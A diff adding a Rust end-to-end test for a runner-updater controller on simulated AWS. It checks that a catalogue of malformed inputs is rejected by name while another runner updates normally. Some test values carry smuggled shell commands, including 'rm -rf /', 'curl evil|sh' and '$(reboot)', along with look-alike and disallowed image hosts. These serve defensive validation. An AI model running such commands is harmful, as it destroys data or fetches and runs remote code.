@@ -1,0 +1,559 @@
+//! The catalogue of bad input, end to end on the simulated AWS: every case is a named piece of
+//! bad input on runner-a (a desired value, the runner's AWS side, its persisted record, its
+//! lease) while runner-b has a valid update to make. For each case:
+//! - runner-a's status and its trace (`check runner-a` span) name the reason by its code;
+//! - nothing on AWS changes for runner-a: no task definition, no service update, no change set;
+//! - nothing is lost: an unreadable record is left exactly as it was;
+//! - runner-b, driven by the same controller in the same passes, is updated (Done).
+//!
+//! `tests/e2e_moto.rs` runs the most important ones against moto with the real binary.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)] // a panic in a test is a failure with a message
+
+use std::sync::Arc;
+
+use opentelemetry::trace::TracerProvider as _;
+use opentelemetry_sdk::trace::{InMemorySpanExporter, SdkTracerProvider};
+use runner_updater::config::{Config, EMBEDDED_CONFIG};
+use runner_updater::machine::phase::Phase;
+use runner_updater::ports::{Clock as _, StateStore as _, StoreError};
+use runner_updater::report::status_view;
+use runner_updater::sim::scenario::Scenario;
+use runner_updater::store::SsmStore;
+use tracing_subscriber::layer::SubscriberExt;
+
+const PREFIX: &str = "/runner-updater";
+
+/// What is wrong, and where.
+#[derive(Clone, Copy)]
+enum Bad {
+    /// `desired/<key>` = value (with `desired/version` = 2.14.0 unless the key is the version).
+    Desired(&'static str, &'static str),
+    /// `desired/<key>` deleted.
+    Removed(&'static str),
+    /// A desired value made by a function (long values).
+    DesiredLong(&'static str, fn() -> String),
+    /// runner-a's configuration points at something that does not exist.
+    Config(fn(&mut Config)),
+    /// A stack of runner-a in this status.
+    StackStatus(&'static str),
+    /// runner-a's persisted record replaced by this text.
+    Record(&'static str),
+    /// Garbage in runner-a's lease.
+    Lease(&'static str),
+}
+
+struct Case {
+    name: &'static str,
+    bad: Bad,
+    /// The reason's code in status and trace.
+    code: &'static str,
+}
+
+const fn case(name: &'static str, bad: Bad, code: &'static str) -> Case {
+    Case { name, bad, code }
+}
+
+fn eight_kib() -> String {
+    "9".repeat(8 * 1024)
+}
+
+fn long_image() -> String {
+    format!("registry.example/runner:{}", "a".repeat(8 * 1024))
+}
+
+fn long_parameters() -> String {
+    format!("{{\"Size\": \"{}\"}}", "1".repeat(8 * 1024))
+}
+
+const CASES: &[Case] = &[
+    // desired/version
+    case("version absent", Bad::Removed("version"), "missing-version"),
+    case(
+        "version empty",
+        Bad::Desired("version", ""),
+        "invalid-version",
+    ),
+    case(
+        "version only whitespace",
+        Bad::Desired("version", "   "),
+        "invalid-version",
+    ),
+    case(
+        "version padded with spaces",
+        Bad::Desired("version", " 2.14.0 "),
+        "invalid-version",
+    ),
+    case(
+        "version with a leading v",
+        Bad::Desired("version", "v2.14.0"),
+        "invalid-version",
+    ),
+    case(
+        "version with two numbers",
+        Bad::Desired("version", "2.14"),
+        "invalid-version",
+    ),
+    case(
+        "version as a word",
+        Bad::Desired("version", "latest"),
+        "invalid-version",
+    ),
+    case(
+        "version in full-width digits",
+        Bad::Desired("version", "２.１４.０"),
+        "invalid-version",
+    ),
+    case(
+        "version with a zero-width space",
+        Bad::Desired("version", "2.14.0\u{200b}"),
+        "invalid-version",
+    ),
+    case(
+        "version with a Cyrillic look-alike",
+        Bad::Desired("version", "2.14.О"),
+        "invalid-version",
+    ),
+    case(
+        "version of 8 KiB",
+        Bad::DesiredLong("version", eight_kib),
+        "value-too-long",
+    ),
+    case(
+        "version as a JSON object",
+        Bad::Desired("version", "{\"version\": \"2.14.0\"}"),
+        "invalid-version",
+    ),
+    case(
+        "version negative",
+        Bad::Desired("version", "-2.14.0"),
+        "invalid-version",
+    ),
+    case(
+        "version with a shell command",
+        Bad::Desired("version", "2.14.0; rm -rf /"),
+        "invalid-version",
+    ),
+    case(
+        "version on two lines",
+        Bad::Desired("version", "2.14.0\n2.15.0"),
+        "invalid-version",
+    ),
+    case(
+        "version a downgrade",
+        Bad::Desired("version", "2.12.0"),
+        "newer-version",
+    ),
+    // desired/image
+    case(
+        "image outside the allow-list",
+        Bad::Desired("image", "evil.example/runner:2.14.0"),
+        "image-not-allowed",
+    ),
+    case(
+        "image with a shell command",
+        Bad::Desired("image", "registry.example/runner:2.14.0;curl evil|sh"),
+        "invalid-image",
+    ),
+    case(
+        "image with command substitution",
+        Bad::Desired("image", "registry.example/runner:$(reboot)"),
+        "invalid-image",
+    ),
+    case(
+        "image without a tag",
+        Bad::Desired("image", "registry.example/runner"),
+        "invalid-image",
+    ),
+    case(
+        "image of 8 KiB",
+        Bad::DesiredLong("image", long_image),
+        "value-too-long",
+    ),
+    case(
+        "image host with a Cyrillic look-alike",
+        Bad::Desired("image", "rеgistry.example/runner:2.14.0"),
+        "invalid-image",
+    ),
+    case(
+        "image as JSON",
+        Bad::Desired("image", "{\"image\": 1}"),
+        "invalid-image",
+    ),
+    case(
+        "image with a space",
+        Bad::Desired("image", "registry.example/runner: 2.14.0"),
+        "invalid-image",
+    ),
+    case(
+        "image the running one",
+        Bad::Desired("image", "registry.example/runner:2.13.0"),
+        "different-image",
+    ),
+    // desired/channel and desired/auto-update
+    case(
+        "channel unknown",
+        Bad::Desired("channel", "nightly"),
+        "unknown-channel",
+    ),
+    case(
+        "channel another known one",
+        Bad::Desired("channel", "beta"),
+        "channel",
+    ),
+    case(
+        "channel in capitals",
+        Bad::Desired("channel", "STABLE"),
+        "unknown-channel",
+    ),
+    case(
+        "auto-update garbage",
+        Bad::Desired("auto-update", "maybe"),
+        "invalid-auto-update",
+    ),
+    case(
+        "auto-update off",
+        Bad::Desired("auto-update", "false"),
+        "auto-update",
+    ),
+    // infrastructure
+    case(
+        "infra-version with a space",
+        Bad::Desired("infra-version", "2 beta"),
+        "invalid-infra-version",
+    ),
+    case(
+        "infra-version with a shell command",
+        Bad::Desired("infra-version", "2;reboot"),
+        "invalid-infra-version",
+    ),
+    case(
+        "infra-version of 8 KiB",
+        Bad::DesiredLong("infra-version", eight_kib),
+        "value-too-long",
+    ),
+    case(
+        "infra-version without templates",
+        Bad::Desired("infra-version", "2"),
+        "infrastructure",
+    ),
+    case(
+        "template for an unknown stack",
+        Bad::Desired(
+            "stacks/nope/template-url",
+            "https://t.s3.amazonaws.com/x.json",
+        ),
+        "unknown-stack",
+    ),
+    case(
+        "template over plain http",
+        Bad::Desired(
+            "stacks/runner-a-main/template-url",
+            "http://t.s3.amazonaws.com/x.json",
+        ),
+        "invalid-template-url",
+    ),
+    case(
+        "template not a URL",
+        Bad::Desired("stacks/runner-a-main/template-url", "not a url"),
+        "invalid-template-url",
+    ),
+    case(
+        "template without infra-version",
+        Bad::Desired(
+            "stacks/runner-a-main/template-url",
+            "https://t.s3.amazonaws.com/x.json",
+        ),
+        "template-without-infra-version",
+    ),
+    case(
+        "parameters not JSON",
+        Bad::Desired("stacks/runner-a-main/parameters", "{oops"),
+        "invalid-stack-parameters",
+    ),
+    case(
+        "parameters a JSON array",
+        Bad::Desired("stacks/runner-a-main/parameters", "[1, 2]"),
+        "invalid-stack-parameters",
+    ),
+    case(
+        "parameters a JSON string",
+        Bad::Desired("stacks/runner-a-main/parameters", "\"Size=3\""),
+        "invalid-stack-parameters",
+    ),
+    case(
+        "parameters of 8 KiB",
+        Bad::DesiredLong("stacks/runner-a-main/parameters", long_parameters),
+        "value-too-long",
+    ),
+    case(
+        "parameters for an unknown stack",
+        Bad::Desired("stacks/nope/parameters", "{\"Size\": \"3\"}"),
+        "unknown-stack",
+    ),
+    // the runner's AWS side
+    case(
+        "stack UPDATE_ROLLBACK_FAILED",
+        Bad::StackStatus("UPDATE_ROLLBACK_FAILED"),
+        "stack-failed",
+    ),
+    case(
+        "stack ROLLBACK_COMPLETE",
+        Bad::StackStatus("ROLLBACK_COMPLETE"),
+        "stack-failed",
+    ),
+    case(
+        "stack ROLLBACK_FAILED",
+        Bad::StackStatus("ROLLBACK_FAILED"),
+        "stack-failed",
+    ),
+    case(
+        "stack CREATE_FAILED",
+        Bad::StackStatus("CREATE_FAILED"),
+        "stack-failed",
+    ),
+    case(
+        "stack DELETE_FAILED",
+        Bad::StackStatus("DELETE_FAILED"),
+        "stack-failed",
+    ),
+    case(
+        "stack UPDATE_ROLLBACK_IN_PROGRESS",
+        Bad::StackStatus("UPDATE_ROLLBACK_IN_PROGRESS"),
+        "stack-busy",
+    ),
+    case(
+        "service that does not exist",
+        Bad::Config(|c| c.runners[0].service = "runner-zz".to_owned()),
+        "service-not-found",
+    ),
+    case(
+        "cluster that does not exist",
+        Bad::Config(|c| c.runners[0].cluster = "nowhere".to_owned()),
+        "service-not-found",
+    ),
+    case(
+        "task definition without the container",
+        Bad::Config(|c| c.runners[0].container = "sidecar".to_owned()),
+        "container-not-found",
+    ),
+    // the persisted record and the lease
+    case(
+        "record truncated",
+        Bad::Record("{\"schema_version\":1,\"runner\":\"runner-a\",\"pha"),
+        "record-corrupt",
+    ),
+    case(
+        "record not JSON",
+        Bad::Record("\u{0}\u{1}garbage"),
+        "record-corrupt",
+    ),
+    case(
+        "record from a newer controller",
+        Bad::Record("{\"schema_version\":99,\"runner\":\"runner-a\"}"),
+        "record-newer-schema",
+    ),
+    case(
+        "record of the wrong shape",
+        Bad::Record("[1,2,3]"),
+        "record-corrupt",
+    ),
+    case(
+        "lease parameter with garbage",
+        Bad::Lease("garbage{"),
+        "lock-busy",
+    ),
+];
+
+struct Outcome {
+    /// The reason code status shows for runner-a.
+    status_code: Option<String>,
+    /// The outcomes of runner-a's check spans.
+    traced: Vec<String>,
+    failures: Vec<String>,
+}
+
+async fn run(case: &Case) -> Outcome {
+    let exporter = InMemorySpanExporter::default();
+    let provider = SdkTracerProvider::builder()
+        .with_simple_exporter(exporter.clone())
+        .build();
+    let subscriber = tracing_subscriber::registry()
+        .with(tracing_opentelemetry::layer().with_tracer(provider.tracer("test")));
+    let _guard = tracing::subscriber::set_default(subscriber);
+
+    let mut s = Scenario::with_config(9, Config::from_toml(EMBEDDED_CONFIG).unwrap()).unwrap();
+    if let Bad::Config(change) = case.bad {
+        // The world as it is; the controller's configuration pointing elsewhere.
+        change(&mut s.config);
+    }
+    let store = Arc::new(SsmStore::new(Arc::new(s.aws.ssm.clone()), PREFIX));
+    s.store = store.clone();
+    s.set_desired("runner-b", "version", "2.14.0");
+    let raw_record = format!("{PREFIX}/runner-a/status");
+    match case.bad {
+        Bad::Desired("version", value) => s.set_desired("runner-a", "version", value),
+        Bad::DesiredLong("version", value) => s.set_desired("runner-a", "version", &value()),
+        Bad::Desired(key, value) => {
+            s.set_desired("runner-a", "version", "2.14.0");
+            s.set_desired("runner-a", key, value);
+        }
+        Bad::DesiredLong(key, value) => {
+            s.set_desired("runner-a", "version", "2.14.0");
+            s.set_desired("runner-a", key, &value());
+        }
+        Bad::Removed(key) => s.clear_desired("runner-a", key),
+        Bad::StackStatus(status) => {
+            s.set_desired("runner-a", "version", "2.14.0");
+            s.aws.cfn.set_status("runner-a-main", status);
+        }
+        Bad::Config(_) => s.set_desired("runner-a", "version", "2.14.0"),
+        Bad::Record(text) => {
+            s.set_desired("runner-a", "version", "2.14.0");
+            s.aws.ssm.set(&raw_record, text);
+        }
+        Bad::Lease(text) => {
+            s.set_desired("runner-a", "version", "2.14.0");
+            s.aws
+                .ssm
+                .set(&format!("{PREFIX}/runner-a/lock/000000000001"), text);
+        }
+    }
+    let (runner_a_td, runner_a_service) = {
+        let c = s.config.runner("runner-a").unwrap();
+        (
+            format!("task-definition/{}:", c.name),
+            (c.cluster.clone(), c.service.clone()),
+        )
+    };
+    let mut a = s.driver("runner-a").unwrap();
+    let mut b = s.driver("runner-b").unwrap();
+    let mut b_done = false;
+    for _ in 0..80 {
+        let _ = a.tick().await; // an unreadable record fails the pass, by design
+        let report = b.tick().await.unwrap();
+        b_done |= report.transitions.iter().any(|t| t.to == Phase::Done);
+        if b_done {
+            break;
+        }
+        s.aws.clock.sleep(b.requeue_after()).await;
+    }
+    // A few more passes of runner-a alone: still nothing.
+    for _ in 0..3 {
+        let _ = a.tick().await;
+        s.aws.clock.sleep(a.requeue_after()).await;
+    }
+    provider.force_flush().unwrap();
+
+    let mut failures = Vec::new();
+    if !b_done {
+        failures.push("runner-b was not updated: the bad input spilled over".to_owned());
+    }
+    let registered: Vec<String> = s
+        .aws
+        .ecs
+        .registrations()
+        .into_iter()
+        .filter(|arn| arn.contains(&runner_a_td))
+        .collect();
+    if !registered.is_empty() {
+        failures.push(format!("runner-a got task definitions {registered:?}"));
+    }
+    let updates: Vec<_> = s
+        .aws
+        .ecs
+        .updates()
+        .into_iter()
+        .filter(|u| (u.cluster.clone(), u.service.clone()) == runner_a_service)
+        .collect();
+    if !updates.is_empty() {
+        failures.push(format!("runner-a's service was updated: {updates:?}"));
+    }
+    let change_sets = s.aws.cfn.creations();
+    if !change_sets.is_empty() {
+        failures.push(format!("change sets were created: {change_sets:?}"));
+    }
+    let status_code = match store.load("runner-a").await {
+        Ok(Some(record)) => status_view(&record).reason_code,
+        Ok(None) => None,
+        Err(StoreError::Record(error)) => Some(error.code().to_owned()),
+        Err(error) => Some(format!("store error {error}")),
+    };
+    if let Bad::Record(text) = case.bad {
+        let kept = s.aws.ssm.without_faults();
+        let now = runner_updater::ports::ParameterStore::get(&kept, &raw_record)
+            .await
+            .unwrap()
+            .map(|p| p.value);
+        if now.as_deref() != Some(text) {
+            failures.push(format!("the unreadable record was changed to {now:?}"));
+        }
+    }
+    let status_code = if let Bad::Lease(_) = case.bad {
+        // Nobody may write runner-a's record while its lease is unreadable: status names the
+        // lease's holder instead.
+        let ports = s.ports();
+        match runner_updater::ops::lease_view(ports.lock.as_ref(), "runner-a", ports.clock.now())
+            .await
+        {
+            runner_updater::report::LeaseView::Held(holder)
+                if holder.starts_with("unreadable-lease") =>
+            {
+                Some("lock-busy".to_owned())
+            }
+            other => Some(format!("lease {other:?}")),
+        }
+    } else {
+        status_code
+    };
+    let traced = exporter
+        .get_finished_spans()
+        .unwrap()
+        .iter()
+        .filter(|span| span.name == "check runner-a")
+        .filter_map(|span| {
+            span.attributes
+                .iter()
+                .find(|kv| kv.key.as_str() == "outcome")
+                .map(|kv| kv.value.to_string())
+        })
+        .collect();
+    Outcome {
+        status_code,
+        traced,
+        failures,
+    }
+}
+
+#[tokio::test]
+async fn every_case_of_bad_input_is_named_acts_on_nothing_and_spares_the_other_runners() {
+    assert!(CASES.len() >= 40, "the catalogue has {} cases", CASES.len());
+    let mut failures = Vec::new();
+    for case in CASES {
+        let outcome = run(case).await;
+        let mut problems = outcome.failures;
+        if outcome.status_code.as_deref() != Some(case.code) {
+            problems.push(format!(
+                "status says {:?}, expected {:?}",
+                outcome.status_code, case.code
+            ));
+        }
+        if !outcome.traced.iter().any(|code| code == case.code) {
+            problems.push(format!(
+                "no check span with outcome {:?} (traced: {:?})",
+                case.code, outcome.traced
+            ));
+        }
+        if !problems.is_empty() {
+            failures.push(format!("{}: {}", case.name, problems.join("; ")));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases failed:\n{}",
+        failures.len(),
+        CASES.len(),
+        failures.join("\n")
+    );
+    println!("{} cases of bad input checked", CASES.len());
+}
